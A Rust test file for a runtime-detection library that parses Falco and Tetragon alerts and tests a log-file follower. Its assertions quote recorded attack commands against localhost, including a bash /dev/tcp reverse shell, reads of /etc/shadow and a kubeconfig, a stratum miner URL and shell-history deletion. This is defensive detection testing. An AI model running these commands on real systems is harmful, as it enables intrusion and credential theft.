//! The Falco and Tetragon adapters against the real output of both sensors (see
//! `fixtures/sensors/PROVENANCE.md`), and the export-file follower against real files.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::path::PathBuf;

use riposte_detect::Error;
use riposte_detect::runtime::falco::{self, CATALOG, FalcoAlert, Priority};
use riposte_detect::runtime::tetragon::{self, Outcome, TetragonEvent};
use riposte_detect::runtime::{Action, Endpoint, Follower, Sensor, Start};

const FALCO: &[u8] = include_bytes!("fixtures/sensors/falco-modern-ebpf.jsonl");
const TETRAGON: &[u8] = include_bytes!("fixtures/sensors/tetragon-rawtp-patched.jsonl");

fn falco_alerts() -> Vec<FalcoAlert> {
    falco::parse_lines(FALCO).collect::<Result<_, _>>().unwrap()
}

fn tetragon_outcomes() -> Vec<Outcome> {
    tetragon::parse_lines(TETRAGON).collect::<Result<_, _>>().unwrap()
}

fn tetragon_line(line: usize) -> TetragonEvent {
    let text = TETRAGON.split(|&b| b == b'\n').nth(line - 1).unwrap();
    match tetragon::parse_line(text).unwrap() {
        Outcome::Event(event) => *event,
        other => panic!("line {line} is not mapped: {other:?}"),
    }
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

#[test]
fn every_falco_alert_parses_and_maps_onto_its_alert_type() {
    let alerts = falco_alerts();
    let mapped: Vec<_> = alerts.iter().map(|a| (a.rule.as_str(), a.catalog_id)).collect();
    let network_tool = ("Launch Suspicious Network Tool in Container", Some("K8S.NODE_KnownLinuxAttackTool"));
    let redirect = ("Redirect STDOUT/STDIN to Network Connection in Container", Some("K8S.NODE_ReverseShell"));
    let history = ("Delete or rename shell history", Some("K8S.NODE_HistoryFileCleared"));
    assert_eq!(
        mapped,
        [
            ("Launch Ingress Remote File Copy Tools in Container", Some("K8S.NODE_SuspectDownloadArtifacts")),
            ("Read sensitive file untrusted", Some("K8S.NODE_SuspectPasswordFileAccess")),
            network_tool,
            network_tool,
            network_tool,
            redirect,
            redirect,
            redirect,
            ("Detect crypto miners using the Stratum protocol", Some("K8S.NODE_DigitalCurrencyMining")),
            history,
            history,
            history,
        ]
    );
    let severities: Vec<_> = alerts.iter().map(|a| a.priority.severity().as_str()).collect();
    assert_eq!(
        severities,
        ["Low", "Medium", "Low", "Low", "Low", "Low", "Low", "Low", "High", "Medium", "Medium", "Medium"]
    );
    for alert in &alerts {
        assert_eq!(
            (alert.source.as_str(), alert.hostname.as_deref(), alert.uuid.as_deref()),
            ("syscall", Some("vm"), None)
        );
        let subject = alert.subject.as_ref().unwrap();
        let container = subject.container.as_ref().unwrap();
        // Falco's 12 characters, as given; the plugin knew no name, image or pod.
        assert_eq!(container.id, "03f5519566a2");
        assert_eq!(
            (&container.name, &container.image, &container.pod, &container.namespace),
            (&None, &None, &None, &None)
        );
        assert_eq!((subject.process.user.as_deref(), subject.process.uid), (Some("root"), Some(0)));
        assert_eq!(subject.parent.as_ref().unwrap().name, "bash");
    }
}

#[test]
fn falco_alerts_carry_their_process_and_action() {
    let alerts = falco_alerts();

    let curl = alerts[0].event().unwrap();
    assert_eq!(curl.sensor, Sensor::Falco);
    assert_eq!(curl.time, "2026-12-01T09:35:46.741582Z".parse().unwrap());
    assert_eq!(curl.node.as_deref(), Some("vm"));
    assert_eq!(curl.action, Action::Exec);
    assert_eq!((curl.process.name.as_str(), curl.process.binary.as_str()), ("curl", "/usr/bin/curl"));
    assert_eq!(
        curl.process.args,
        strings(&["-s", "-o", "/tmp/riposte-runtime-workload/index.html", "http://127.0.0.1:18080/"])
    );
    // Stock rules' outputs name no process ids.
    assert_eq!(curl.process.pid, 0);
    assert_eq!(alerts[0].priority, Priority::Notice);
    assert!(alerts[0].tags.contains(&"mitre_command_and_control".to_owned()));

    let shadow = alerts[1].event().unwrap();
    assert_eq!(shadow.action, Action::FileOpen { path: "/etc/shadow".into(), write: false, truncate: false });
    assert_eq!(shadow.process.args, strings(&["/etc/shadow"]));
    assert_eq!(shadow.ancestors, strings(&["bash", "bash", "bash"]));

    // The stock redirect rule names the socket but not the descriptor it replaced.
    let redirect = alerts[5].subject.as_ref().unwrap();
    assert_eq!((redirect.syscall.as_deref(), &redirect.action), (Some("dup2"), &None));
    assert_eq!(
        alerts[5].event().map(|e| e.action),
        Some(Action::Other { event: "dup2".into() }),
        "the event still carries the process, with the syscall it was about"
    );
    assert_eq!(redirect.ancestors, strings(&["timeout", "bash", "bash"]));
    assert_eq!(
        redirect.process.args,
        strings(&["-c", "bash", "--norc", "--noprofile", "-i", ">&", "/dev/tcp/127.0.0.1/14445", "0>&1"])
    );

    let miner = alerts[8].event().unwrap();
    assert_eq!((miner.process.name.as_str(), miner.process.binary.as_str()), ("sh", "/usr/bin/dash"));
    assert!(miner.process.args.contains(&"stratum+tcp://127.0.0.1:3333".to_owned()));

    let history_open = alerts[9].event().unwrap();
    assert_eq!(
        history_open.action,
        Action::FileOpen {
            path: "/tmp/riposte-runtime-workload/home/.bash_history".into(),
            write: false,
            truncate: false
        }
    );
    let history_delete = alerts[11].event().unwrap();
    assert_eq!(
        history_delete.action,
        Action::FileDelete { path: "/tmp/riposte-runtime-workload/home/.bash_history".into() }
    );
    assert_eq!(history_delete.process.name, "rm");
}

/// A Falcosidekick webhook body: Falco's payload plus `uuid`, its priority and time
/// re-encoded by Go (`time.Time` as RFC 3339 with nanoseconds).
#[test]
fn falcosidekick_bodies_and_rules_without_an_alert_type() {
    let line = FALCO.split(|&b| b == b'\n').next().unwrap();
    let mut body: serde_json::Value = serde_json::from_slice(line).unwrap();
    body["uuid"] = "b8b8c5c6-8a47-4a0b-9d4e-3f5a9d3c2e11".into();
    body["rule"] = "Terminal shell in container".into();
    body["priority"] = "Warning".into();
    body["output_fields"]["proc.pid"] = 4242.into();
    body["output_fields"]["proc.ppid"] = 4241.into();
    body["output_fields"]["container.image.repository"] = "docker.io/library/nginx".into();
    body["output_fields"]["container.image.tag"] = "1.27".into();
    body["output_fields"]["k8s.pod.name"] = "web-7d9f8b6c5-x2x9p".into();
    body["output_fields"]["k8s.ns.name"] = "shop".into();
    let alert = falco::parse_alert(&serde_json::to_vec(&body).unwrap()).unwrap();
    assert_eq!(alert.catalog_id, None, "kept, for a generic sensor alert under Falco's rule name");
    assert_eq!(alert.rule, "Terminal shell in container");
    assert_eq!(alert.uuid.as_deref(), Some("b8b8c5c6-8a47-4a0b-9d4e-3f5a9d3c2e11"));
    let event = alert.event().unwrap();
    assert_eq!((event.process.pid, event.parent.as_ref().unwrap().pid), (4242, 4241));
    let container = event.container.unwrap();
    assert_eq!(container.image.as_deref(), Some("docker.io/library/nginx:1.27"));
    assert_eq!((container.pod.as_deref(), container.namespace.as_deref()), (Some("web-7d9f8b6c5-x2x9p"), Some("shop")));
}

#[test]
fn every_falco_mapping_names_a_runtime_alert_type_of_the_catalog() {
    let catalog: serde_yaml::Value = serde_yaml::from_str(include_str!("../../crds/src/alert-catalog.yaml")).unwrap();
    let runtime: Vec<&str> = catalog["alerts"]
        .as_sequence()
        .unwrap()
        .iter()
        .filter(|a| a["source"].as_str() == Some("runtime"))
        .map(|a| a["id"].as_str().unwrap())
        .collect();
    assert_eq!(runtime.len(), 39);
    for (rule, id) in CATALOG {
        assert!(runtime.contains(id), "{rule} maps onto {id}, not a runtime alert type");
    }
}

#[test]
fn malformed_falco_lines_are_reported_by_number_and_the_rest_still_parse() {
    let mut input = Vec::new();
    let lines: Vec<&[u8]> = FALCO.split(|&b| b == b'\n').filter(|l| !l.is_empty()).collect();
    input.extend_from_slice(lines[0]);
    input.extend_from_slice(b"\nnot json\n\n");
    input.extend_from_slice(br#"{"rule":5,"priority":"Notice","time":"2026-12-01T09:35:46Z"}"#);
    input.push(b'\n');
    input.extend_from_slice(&lines[1][..lines[1].len() / 2]);
    input.push(b'\n');
    input.extend_from_slice(lines[2]);
    input.push(b'\n');
    let results: Vec<_> = falco::parse_lines(&input).collect();
    assert_eq!(results.len(), 5);
    assert!(results[0].is_ok() && results[4].is_ok());
    let errors: Vec<String> = results.iter().filter_map(|r| r.as_ref().err()).map(Error::to_string).collect();
    assert_eq!(errors.len(), 3);
    assert!(errors[0].starts_with("line 2: not a Falco alert"), "{}", errors[0]);
    assert_eq!(errors[1], "line 4: Falco alert field rule: expected a string, saw 5");
    assert!(errors[2].starts_with("line 5: not a Falco alert") && errors[2].contains("EOF"), "{}", errors[2]);
}

#[test]
fn every_tetragon_line_parses() {
    let outcomes = tetragon_outcomes();
    assert_eq!(outcomes.len(), 105);
    let mut kinds = std::collections::BTreeMap::new();
    for outcome in &outcomes {
        let kind = match outcome {
            Outcome::Event(event) => event.event.action.kind().to_owned(),
            Outcome::Unmapped { hook, .. } => format!("unmapped {hook}"),
            Outcome::NotProcessEvent { kind } => format!("not a process event: {kind}"),
        };
        *kinds.entry(kind).or_insert(0) += 1;
    }
    let expected = [
        ("connect", 3),
        ("exec", 29),
        ("exit", 30),
        ("fileDelete", 1),
        ("fileOpen", 1),
        ("socketRedirect", 39),
        // bash moving a descriptor to 255, its own.
        ("unmapped syscalls/sys_enter_dup2", 2),
    ];
    assert_eq!(kinds, expected.into_iter().map(|(k, n)| (k.to_owned(), n)).collect());
    for outcome in outcomes {
        if let Outcome::Event(event) = outcome {
            assert_eq!((event.event.sensor, event.event.node.as_deref()), (Sensor::Tetragon, Some("vm")));
            // No pod: at most the id prefix Tetragon read from the cgroup (the first
            // lines only; the later processes' cgroup gave none).
            if let Some(container) = &event.event.container {
                assert_eq!(container.id, "03f5519566a284ea064b1e5e81ebfe4");
                assert_eq!(container.pod, None);
            }
            assert_eq!(event.event.process.uid, Some(0));
            assert!(event.event.process.exec_id.is_some() && event.event.parent.is_some());
        }
    }
}

#[test]
fn tetragon_execs_keep_their_arguments() {
    let curl = tetragon_line(17);
    assert_eq!(curl.event.action, Action::Exec);
    let process = &curl.event.process;
    assert_eq!((process.name.as_str(), process.binary.as_str(), process.pid), ("curl", "/usr/bin/curl", 11697));
    assert_eq!(
        process.args,
        strings(&["-s", "-o", "/tmp/riposte-runtime-workload/index.html", "http://127.0.0.1:18080/"])
    );
    assert_eq!(process.cwd.as_deref(), Some("/tmp/riposte-runtime-workload"));
    assert_eq!(process.start_time, Some("2026-12-01T08:37:50.166932Z".parse().unwrap()));
    let parent = curl.event.parent.as_ref().unwrap();
    assert_eq!(process.parent_exec_id, parent.exec_id);
    assert_eq!(
        parent.args,
        strings(&["-c", "curl -s -o /tmp/riposte-runtime-workload/index.html http://127.0.0.1:18080/"])
    );
    assert_eq!((curl.message, curl.tags, curl.policy_name), (None, vec![], None));

    let shell = tetragon_line(48);
    assert_eq!(
        shell.event.process.args,
        strings(&["-c", "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/14445 0>&1"])
    );
    assert_eq!(shell.event.parent.as_ref().unwrap().name, "timeout");
    let timeout = tetragon_line(47);
    assert_eq!(
        timeout.event.process.args,
        strings(&["5", "bash", "-c", "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/14445 0>&1"])
    );
    assert_eq!(tetragon_line(81).event.process.args, Vec::<String>::new());
}

#[test]
fn tetragon_tracepoints_become_file_network_and_redirect_actions() {
    let shadow = tetragon_line(22);
    assert_eq!(shadow.event.action, Action::FileOpen { path: "/etc/shadow".into(), write: false, truncate: false });
    assert_eq!(shadow.event.process.name, "cat");
    // The policy author's words, kept but not used to classify.
    assert_eq!(shadow.message.as_deref(), Some("sensitive file opened"));
    assert_eq!(shadow.tags, strings(&["SuspectPasswordFileAccess"]));
    assert_eq!(shadow.policy_name.as_deref(), Some("riposte-tracepoints"));

    let unlink = tetragon_line(69);
    assert_eq!(
        unlink.event.action,
        Action::FileDelete { path: "/tmp/riposte-runtime-workload/home/.bash_history".into() }
    );

    assert_eq!(shadow.event.container, None);
    let redirects: Vec<_> = (1..=3).map(tetragon_line).map(|e| (e.event.process.pid, e.event.action)).collect();
    assert_eq!(tetragon_line(1).event.container.unwrap().id, "03f5519566a284ea064b1e5e81ebfe4");
    assert_eq!(
        redirects,
        [
            (11690, Action::SocketRedirect { fd: 0, remote: None }),
            (11691, Action::SocketRedirect { fd: 1, remote: None }),
            (11691, Action::SocketRedirect { fd: 2, remote: None }),
        ]
    );

    let connects: Vec<_> =
        [18, 35, 49].into_iter().map(tetragon_line).map(|e| (e.event.process.name, e.event.action)).collect();
    let to = |port| Action::Connect(Endpoint { address: "127.0.0.1".into(), port, protocol: "tcp".into() });
    assert_eq!(
        connects,
        [("curl".to_owned(), to(18080)), ("nc".to_owned(), to(14444)), ("bash".to_owned(), to(14445))]
    );
}

#[test]
fn tetragon_exits_tell_codes_and_signals() {
    let rm = tetragon_line(7);
    assert_eq!((rm.event.action, rm.exit_signal), (Action::Exit { code: Some(0) }, None));
    // The line's time, not the exit block's own (2026-12-01T08:37:49.153132995Z).
    assert_eq!(rm.event.time, "2026-12-01T08:37:49.150185Z".parse().unwrap());
    let kubeconfig = tetragon_line(94);
    assert_eq!(kubeconfig.event.action, Action::Exit { code: Some(1) });
    assert_eq!(kubeconfig.event.process.args, strings(&["/root/.kube/config"]));
    let server = tetragon_line(102);
    assert_eq!((server.event.action, server.exit_signal.as_deref()), (Action::Exit { code: None }, Some("SIGTERM")));
    assert_eq!(server.event.process.name, "python3");
}

#[test]
fn tetragon_pods_become_containers() {
    let line = br#"{"process_exec":{"process":{"exec_id":"a","pid":9,"uid":1000,"binary":"/usr/bin/sh","arguments":"-c id","docker":"0123456789abcdef0123456789abcde","pod":{"namespace":"shop","name":"web-7d9f8b6c5-x2x9p","uid":"5b0c6a2e","container":{"id":"containerd://0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef","name":"web","image":{"id":"docker.io/library/nginx@sha256:00","name":"docker.io/library/nginx:1.27"},"start_time":"2026-12-01T08:00:00Z","pid":12,"security_context":{"privileged":true}},"pod_labels":{"app":"web"},"workload":"web","workload_kind":"Deployment"}},"parent":{"exec_id":"b","pid":8,"binary":"/usr/sbin/nginx"},"ancestors":[{"exec_id":"c","pid":7,"binary":"/usr/sbin/nginx"},{"exec_id":"d","pid":1,"binary":"/usr/bin/tini"}]},"node_name":"node-1","time":"2026-12-01T08:37:49Z"}"#;
    let Outcome::Event(event) = tetragon::parse_line(line).unwrap() else { panic!("not mapped") };
    let container = event.event.container.as_ref().unwrap();
    assert_eq!(container.id, "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
    assert_eq!(
        (container.name.as_deref(), container.image.as_deref()),
        (Some("web"), Some("docker.io/library/nginx:1.27"))
    );
    assert_eq!((container.pod.as_deref(), container.namespace.as_deref()), (Some("web-7d9f8b6c5-x2x9p"), Some("shop")));
    assert_eq!((container.pod_uid.as_deref(), container.privileged), (Some("5b0c6a2e"), Some(true)));
    assert_eq!((event.workload.as_deref(), event.workload_kind.as_deref()), (Some("web"), Some("Deployment")));
    assert_eq!(event.pod_labels.get("app").map(String::as_str), Some("web"));
    assert_eq!(event.event.node.as_deref(), Some("node-1"));
    // Tetragon walks up from the parent (GetAncestorProcessesInternal): nearest first.
    assert_eq!(event.event.ancestors, strings(&["nginx", "tini"]));
}

#[test]
fn malformed_tetragon_lines_are_reported_by_number_and_the_rest_still_parse() {
    let lines: Vec<&[u8]> = TETRAGON.split(|&b| b == b'\n').filter(|l| !l.is_empty()).collect();
    let mut input = Vec::new();
    for (i, line) in lines.iter().take(4).enumerate() {
        match i {
            1 => input.extend_from_slice(&line[..line.len() - 10]),
            2 => input.extend_from_slice(br#"{"process_exit":{"process":{"pid":-1}},"time":"2026-12-01T00:00:00Z"}"#),
            _ => input.extend_from_slice(line),
        }
        input.push(b'\n');
    }
    input.extend_from_slice(
        b"{\"rate_limit_info\":{\"number_of_dropped_process_events\":\"12\"},\"time\":\"2026-12-01T00:00:00Z\"}\n",
    );
    let results: Vec<_> = tetragon::parse_lines(&input).collect();
    assert_eq!(results.len(), 5);
    assert!(matches!(results[0], Ok(Outcome::Event(_))) && matches!(results[3], Ok(Outcome::Event(_))));
    assert_eq!(results[4].as_ref().unwrap(), &Outcome::NotProcessEvent { kind: "rate_limit_info".into() });
    let second = results[1].as_ref().unwrap_err().to_string();
    assert!(second.starts_with("line 2: not a Tetragon export event"), "{second}");
    let third = results[2].as_ref().unwrap_err().to_string();
    assert!(
        third.starts_with("line 3: Tetragon event field process_exit.process.pid: invalid value: integer `-1`"),
        "{third}"
    );
}

// ---- the follower, on real files ----

struct Dir(PathBuf);

impl Dir {
    fn new(name: &str) -> Dir {
        let dir = std::env::temp_dir().join(format!("riposte-follow-{name}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).unwrap();
        Dir(dir)
    }
}

impl Drop for Dir {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn append(path: &PathBuf, bytes: &[u8]) {
    OpenOptions::new().create(true).append(true).open(path).unwrap().write_all(bytes).unwrap();
}

fn drain(follower: &mut Follower) -> Vec<String> {
    std::iter::from_fn(|| follower.poll()).map(|line| String::from_utf8(line.unwrap()).unwrap()).collect()
}

#[test]
fn the_follower_waits_for_the_file_and_for_each_newline() {
    let dir = Dir::new("partial");
    let path = dir.0.join("tetragon.log");
    let mut follower = Follower::new(&path, Start::Beginning, 1024);
    assert!(follower.poll().is_none(), "no file yet");
    append(&path, b"one\ntw");
    assert_eq!(drain(&mut follower), ["one"]);
    append(&path, b"o");
    assert_eq!(drain(&mut follower), Vec::<String>::new());
    append(&path, b"\nthree\n\nfour\n");
    assert_eq!(drain(&mut follower), ["two", "three", "", "four"]);
}

#[test]
fn the_follower_can_start_at_the_end() {
    let dir = Dir::new("end");
    let path = dir.0.join("tetragon.log");
    append(&path, b"old\n");
    let mut follower = Follower::new(&path, Start::End, 1024);
    assert_eq!(drain(&mut follower), Vec::<String>::new());
    append(&path, b"new\n");
    assert_eq!(drain(&mut follower), ["new"]);

    // A file that did not exist yet is new: read from its start.
    let later = dir.0.join("later.log");
    let mut follower = Follower::new(&later, Start::End, 1024);
    assert!(follower.poll().is_none());
    append(&later, b"first\n");
    assert_eq!(drain(&mut follower), ["first"]);
}

/// Lumberjack's rotation: the file renamed to `<name>-<timestamp>.<ext>`, then a new file
/// under the name. Lines written to the old file after the follower last read it, even
/// after the rename (by a writer still holding it), come before the new file's.
#[test]
fn the_follower_finishes_a_rotated_file_then_reads_the_new_one() {
    let dir = Dir::new("rotate");
    let path = dir.0.join("tetragon.log");
    let mut writer = File::create(&path).unwrap();
    writer.write_all(b"1\n2\n").unwrap();
    let mut follower = Follower::new(&path, Start::Beginning, 1024);
    assert_eq!(drain(&mut follower), ["1", "2"]);
    writer.write_all(b"3\n4").unwrap();
    fs::rename(&path, dir.0.join("tetragon-2026-12-01T08-37-52.123.log")).unwrap();
    writer.write_all(b"\n5\n").unwrap();
    // Renamed and not yet recreated: nothing is lost while waiting.
    assert_eq!(drain(&mut follower), ["3", "4", "5"]);
    drop(writer);
    append(&path, b"6\n7\n");
    assert_eq!(drain(&mut follower), ["6", "7"]);
    append(&path, b"8\n");
    assert_eq!(drain(&mut follower), ["8"]);

    // A rotation between two polls, the new file already written to.
    append(&path, b"9\n");
    fs::rename(&path, dir.0.join("tetragon-2026-12-01T08-40-00.000.log")).unwrap();
    append(&path, b"10\n");
    assert_eq!(drain(&mut follower), ["9", "10"]);
}

#[test]
fn the_follower_starts_over_on_a_truncated_file() {
    let dir = Dir::new("truncate");
    let path = dir.0.join("tetragon.log");
    append(&path, b"a long first line\nsecond\npart");
    let mut follower = Follower::new(&path, Start::Beginning, 1024);
    assert_eq!(drain(&mut follower), ["a long first line", "second"]);
    OpenOptions::new().write(true).open(&path).unwrap().set_len(0).unwrap();
    append(&path, b"after\n");
    assert_eq!(drain(&mut follower), ["after"]);
}

#[test]
fn the_follower_skips_a_too_long_line_and_goes_on() {
    let dir = Dir::new("long");
    let path = dir.0.join("tetragon.log");
    let mut follower = Follower::new(&path, Start::Beginning, 8);
    append(&path, b"short\n");
    append(&path, &[b'x'; 20]);
    let first: Vec<_> = std::iter::from_fn(|| follower.poll()).collect();
    assert_eq!(first.len(), 2);
    assert_eq!(first[0].as_deref().unwrap(), b"short");
    let error = first[1].as_ref().unwrap_err().to_string();
    assert!(
        error.starts_with("line 2 of ") && error.ends_with("is longer than 8 bytes; skipped up to its newline"),
        "{error}"
    );
    // The rest of the long line arrives later; it is skipped without a second error.
    append(&path, &[b'x'; 20]);
    append(&path, b"\n12345678\n123456789\nlast\n");
    let rest: Vec<_> = std::iter::from_fn(|| follower.poll()).collect();
    assert_eq!(rest.len(), 3);
    assert_eq!(rest[0].as_deref().unwrap(), b"12345678");
    assert!(rest[1].as_ref().unwrap_err().to_string().starts_with("line 4 of "));
    assert_eq!(rest[2].as_deref().unwrap(), b"last");
}

/// The Tetragon fixture written line by line, each line in two writes, polled at odd
/// moments, with two rotations on the way (between lines, as lumberjack rotates between
/// writes and Tetragon writes one event per write): every line comes out once, in order,
/// and parses.
#[test]
fn the_follower_hands_every_tetragon_line_over_once_across_rotations() {
    let dir = Dir::new("fixture");
    let path = dir.0.join("tetragon.log");
    let mut follower = Follower::new(&path, Start::Beginning, 1 << 20);
    let expected: Vec<&[u8]> = TETRAGON.split(|&b| b == b'\n').filter(|l| !l.is_empty()).collect();
    let mut lines = Vec::new();
    let mut writer = File::create(&path).unwrap();
    for (i, line) in expected.iter().enumerate() {
        let (head, tail) = line.split_at(line.len() * (i % 7) / 7);
        writer.write_all(head).unwrap();
        if i % 3 == 0 {
            lines.extend(drain(&mut follower));
        }
        writer.write_all(tail).unwrap();
        writer.write_all(b"\n").unwrap();
        if i % 5 == 0 {
            lines.extend(drain(&mut follower));
        }
        if i == 30 || i == 70 {
            fs::rename(&path, dir.0.join(format!("tetragon-{i}.log"))).unwrap();
            writer = File::create(&path).unwrap();
        }
    }
    lines.extend(drain(&mut follower));
    assert_eq!(lines.len(), expected.len());
    for (got, want) in lines.iter().zip(&expected) {
        assert_eq!(got.as_bytes(), *want);
        tetragon::parse_line(got.as_bytes()).unwrap();
    }
}
